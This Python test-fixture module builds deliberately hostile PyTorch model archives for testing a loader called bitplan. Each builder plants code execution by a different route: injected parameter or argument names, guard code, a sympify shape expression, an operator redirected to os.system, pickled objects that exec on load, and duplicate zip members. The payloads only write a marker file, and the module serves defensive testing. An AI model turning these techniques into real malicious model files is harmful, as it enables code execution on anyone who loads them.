"""Hostile model archives for the tests: each is a real export of the digits CNN with one part rewritten the
way an attacker would, so that the stock torch loaders run a payload (it writes a marker file). bitplan must
refuse every one of them before torch reads it: the marker must never appear.

``PT2_ATTACKS`` maps a name to (the builder, whether it ran its payload through bitplan's loader on main at
76f87df, when the model was loaded and run once). The others were stopped there by torch or by an older check;
they are kept because each one is a different door.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path


def payload(marker: Path) -> str:
    """Python that writes ``marker``, spelled without quotes or dots (so it fits inside a name or a string)."""
    code = f"open({str(marker)!r},'w').write('ran')"
    return "exec(str(bytes(" + repr(list(code.encode())).replace(" ", "") + '),"ascii"))'


class _RunsOnUnpickle:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r},'w').write('ran')",))


def _pickle_payload(marker: Path) -> bytes:
    return pickle.dumps(_RunsOnUnpickle(marker), protocol=2)


def _rewrite(src: Path, dst: Path, edit_model: Callable[[dict], None] | None = None,
             edit_member: Callable[[str, bytes], bytes | None] | None = None,
             extra: list[tuple[str, bytes]] | None = None) -> Path:
    """Copy ``src`` to ``dst``, editing the program JSON and/or any member (None drops it), adding ``extra``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        root = zin.namelist()[0].split("/")[0]
        for info in zin.infolist():
            data = zin.read(info)
            rel = info.filename.split("/", 1)[1]
            if rel == "models/model.json" and edit_model is not None:
                program = json.loads(data)
                edit_model(program)
                data = json.dumps(program).encode()
            if edit_member is not None:
                data = edit_member(rel, data)
                if data is None:
                    continue
            zout.writestr(info.filename, data)
        for rel, data in extra or []:
            zout.writestr(f"{root}/{rel}", data)
    return dst


def _rename_parameter(old: str, new: str):
    def model(program: dict) -> None:
        for spec in program["graph_module"]["signature"]["input_specs"]:
            if "parameter" in spec and spec["parameter"]["parameter_name"] == old:
                spec["parameter"]["parameter_name"] = new

    def member(rel: str, data: bytes) -> bytes:
        if rel == "data/weights/model_weights_config.json":
            config = json.loads(data)
            config["config"][new] = config["config"].pop(old)
            return json.dumps(config).encode()
        return data

    return model, member


def parameter_name(src: Path, dst: Path, marker: Path) -> Path:
    """A parameter path that closes the quote of ``getattr(self, "...")`` in the code torch generates."""
    model, member = _rename_parameter("conv1.weight", f'conv1.w",0)or {payload(marker)}or("')
    return _rewrite(src, dst, model, member)


def guards_code(src: Path, dst: Path, marker: Path) -> Path:
    """A guard: torch ``exec``s the program's guards when it builds the module."""
    return _rewrite(src, dst, lambda p: p.__setitem__("guards_code", [f"{payload(marker)} is None"]))


def shape_expression(src: Path, dst: Path, marker: Path) -> Path:
    """A symbolic batch size: torch hands each shape expression to ``sympy.sympify``, an eval."""
    code = f"__import__('os').system('touch {marker}')"

    def edit(program: dict) -> None:
        size = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]
        size["as_expr"]["expr_str"] = f"{code} + Symbol('s77', positive=True, integer=True)"

    return _rewrite(src, dst, edit)


def forward_argument(src: Path, dst: Path, marker: Path) -> Path:
    """A forward-argument name, pasted into ``def forward(self, <names>)``."""

    def edit(program: dict) -> None:
        for entry in program["graph_module"]["module_call_graph"]:
            if entry["signature"]:
                entry["signature"]["forward_arg_names"] = [f"x=__import__('os').system('touch {marker}')"]

    return _rewrite(src, dst, edit)


def operator(src: Path, dst: Path, marker: Path) -> Path:
    """An operator name that resolves, by getattr from ``torch``, to ``os.system``."""

    def edit(program: dict) -> None:
        for node in program["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.aten.relu.default":
                node["target"] = "torch.os.system"
                node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]
                return

    return _rewrite(src, dst, edit)


def opaque_constant(src: Path, dst: Path, marker: Path) -> Path:
    """A constant stored as an opaque object, which torch ``pickle.loads``."""

    def member(rel: str, data: bytes) -> bytes:
        if rel == "data/constants/model_constants_config.json":
            return json.dumps({"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False,
                                                    "use_pickle": True, "tensor_meta": None}}}).encode()
        return data

    return _rewrite(src, dst, edit_member=member, extra=[("data/constants/opaque_obj_0", _pickle_payload(marker))])


def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    """A weight in the pickled layout (``use_pickle``)."""

    def member(rel: str, data: bytes) -> bytes:
        if rel == "data/weights/model_weights_config.json":
            config = json.loads(data)
            config["config"]["conv1.bias"].update(use_pickle=True, path_name="weight_99")
            return json.dumps(config).encode()
        return data

    return _rewrite(src, dst, edit_member=member, extra=[("data/weights/weight_99", _pickle_payload(marker))])


def example_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """Example inputs whose pickle calls ``exec`` (torch retries a failed weights-only read with full unpickling)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        inner.writestr("archive/data.pkl", _pickle_payload(marker))
        inner.writestr("archive/version", b"3\n")
    return _rewrite(src, dst, edit_member=lambda rel, data: buffer.getvalue() if rel == "data/sample_inputs/model.pt"
                    else data)


def aoti_library(src: Path, dst: Path, marker: Path) -> Path:
    """An AOTInductor package member: torch would load it as a shared library."""
    return _rewrite(src, dst, extra=[("data/aotinductor/model/model.so", b"\x7fELF" + b"\0" * 64)])


def duplicate_member(src: Path, dst: Path, marker: Path) -> Path:
    """The program twice: Python's zipfile reads the last copy, torch's reader the first (the hostile one)."""
    hostile = parameter_name(src, dst.with_suffix(".tmp"), marker)
    with zipfile.ZipFile(hostile) as z:
        bad = z.read(next(n for n in z.namelist() if n.endswith("models/model.json")))
        bad_config = z.read(next(n for n in z.namelist() if n.endswith("model_weights_config.json")))
    hostile.unlink()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            if info.filename.endswith("models/model.json"):
                zout.writestr(info.filename, bad)
            elif info.filename.endswith("model_weights_config.json"):
                zout.writestr(info.filename, bad_config)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name": the point of this archive
            for info in zin.infolist():
                zout.writestr(info.filename, zin.read(info))
    return dst


PT2_ATTACKS: dict[str, tuple[Callable[[Path, Path, Path], Path], bool]] = {
    "parameter_name": (parameter_name, True),
    "guards_code": (guards_code, True),
    "shape_expression": (shape_expression, True),
    "opaque_constant": (opaque_constant, False),
    "forward_argument": (forward_argument, False),
    "operator": (operator, False),
    "pickled_weight": (pickled_weight, False),
    "example_inputs": (example_inputs, False),
    "aoti_library": (aoti_library, False),
    "duplicate_member": (duplicate_member, False),
}


def torchscript_attribute(dst: Path, marker: Path) -> Path:
    """A TorchScript module with a parameter whose name closes a quote: converting it to a graph pastes the name
    into generated Python (stock torch 2.13 ran the payload). Built from a real scripted module, with the code
    file's strings escaped the way a careful attacker would."""
    import importlib.util
    import sys

    import torch

    name = f'w",0)or {payload(marker)}or("'
    source = dst.parent / f"hostile_ts_{abs(hash(str(dst)))}.py"
    source.write_text(
        "import torch\n\n"
        "class Hostile(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.fc = torch.nn.Linear(64, 10)\n"
        f"        self.register_parameter({name!r}, torch.nn.Parameter(torch.ones(10)))\n\n"
        "    def forward(self, x):\n"
        f"        return self.fc(x.flatten(1)) * getattr(self, {name!r})\n")
    spec = importlib.util.spec_from_file_location(source.stem, source)
    module = importlib.util.module_from_spec(spec)
    sys.modules[source.stem] = module
    spec.loader.exec_module(module)
    raw = dst.with_suffix(".raw")
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit is deprecated; attackers still use it
        torch.jit.save(torch.jit.script(module.Hostile()), str(raw))
    with zipfile.ZipFile(raw) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith(".py"):
                text = data.decode()
                text = text.replace(f'["{name}", ]', f"[{json.dumps(name)}, ]")
                text = text.replace(f'__annotations__["{name}"]', f"__annotations__[{json.dumps(name)}]")
                data = text.encode()
            zout.writestr(info, data)
    raw.unlink()
    source.unlink()
    return dst
